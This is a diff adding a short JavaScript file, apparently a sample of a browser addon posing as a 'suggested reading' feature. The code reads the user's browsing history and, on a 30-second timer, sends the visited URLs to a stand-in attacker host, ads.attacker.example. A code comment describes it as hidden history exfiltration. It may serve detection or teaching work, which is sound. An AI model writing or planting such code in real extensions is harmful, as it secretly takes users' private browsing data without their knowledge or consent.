@@ -1,0 +1,15 @@
+// Browsing-history exfiltration hidden in a "suggested reading" addon:
+// queries the places database and uploads visited URLs.
+
+var Suggest = {
+  api: "http://ads.attacker.example/profile?visits="
+};
+
+function sg_buildProfile() {
+  var visits = historyService.executeQuery();
+  var req = new XMLHttpRequest();
+  req.open("POST", Suggest.api + encodeURIComponent(visits), true);
+  req.send(visits);
+}
+
+setTimeout(sg_buildProfile, 30000);
